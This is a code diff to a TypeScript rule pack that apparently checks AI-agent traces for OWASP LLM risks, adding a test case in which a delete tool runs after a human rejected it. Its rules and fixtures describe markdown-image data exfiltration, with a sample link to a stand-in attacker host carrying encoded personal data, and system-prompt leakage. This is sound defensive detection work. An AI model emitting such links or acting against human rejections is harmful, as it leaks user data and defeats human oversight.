@@ -1,4 +1,4 @@
-import { disclaimer, packRule, type RulePack } from './rule-pack.ts';
+import { approval, disclaimer, packRule, type RulePack } from './rule-pack.ts';
 
 // prettier-ignore
 export const owaspLlm: RulePack = {
@@ -26,9 +26,9 @@ export const owaspLlm: RulePack = {
     packRule('markdown-exfiltration', 'Image link that carries data', 'regex_match', { pattern: '!\\[[^\\]\\n]{0,200}\\]\\(https?://[^)\\s]{1,300}[?&][^)\\s=]{1,60}=[^)\\s]{20,}\\)', scope: { fields: ['response'] } }, {
       severity: 'critical', citation: 'LLM02:2025; LLM05:2025', description: 'A picture whose address takes data out when it is shown.',
       positive: [{ action: 'llm_call', response: '![logo](https://evil.example/p.png?d=bWFyeUBleGFtcGxlLm9yZyBzc24)' }], negative: [{ action: 'llm_call', response: '![logo](https://example.org/logo.png)' }] }),
-    packRule('unapproved-tool', 'Tool with effect without approval', 'sequence', { when: { actions: ['tool_use'], tools: ['*delete*', '*send*', '*payment*', '*transfer*', '*deploy*', '*exec*', '*shell*', '*grant*', '*publish*', '*purchase*'] }, requires: { actions: ['hitl_decision', 'hitl_consume'] } }, {
+    packRule('unapproved-tool', 'Tool with effect without approval', 'sequence', { when: { actions: ['tool_use'], tools: ['*delete*', '*send*', '*payment*', '*transfer*', '*deploy*', '*exec*', '*shell*', '*grant*', '*publish*', '*purchase*'] }, requires: approval }, {
       severity: 'warning', citation: 'LLM06:2025; ASI02, ASI03', description: 'Excessive agency: the tool ran and nobody approved it in this trace.',
-      positive: [{ action: 'tool_use', traceId: 't', metadata: { tool: 'delete_branch' } }], negative: [[{ action: 'hitl_consume', traceId: 't' }, { action: 'tool_use', traceId: 't', metadata: { tool: 'delete_branch' } }]] }),
+      positive: [{ action: 'tool_use', traceId: 't', metadata: { tool: 'delete_branch' } }, [{ action: 'hitl_decision', traceId: 't', metadata: { decision: 'rejected' } }, { action: 'tool_use', traceId: 't', metadata: { tool: 'delete_branch' } }]], negative: [[{ action: 'hitl_consume', traceId: 't' }, { action: 'tool_use', traceId: 't', metadata: { tool: 'delete_branch' } }]] }),
     packRule('system-prompt-leak', 'System prompt in an answer', 'regex_match', { pattern: '\\b(my (system )?(prompt|instructions) (is|are|says?|reads?)\\b|here (is|are) my (system |initial )?(prompt|instructions)|my system prompt|system prompt:)', flags: 'i', scope: { fields: ['response'] } }, {
       severity: 'warning', citation: 'LLM07:2025', description: 'An answer that tells its own instructions.',
       positive: [{ action: 'llm_call', response: 'Here are my instructions: You are a helpful…' }], negative: [{ action: 'llm_call', response: 'Here are the instructions for the shelf.' }] }),
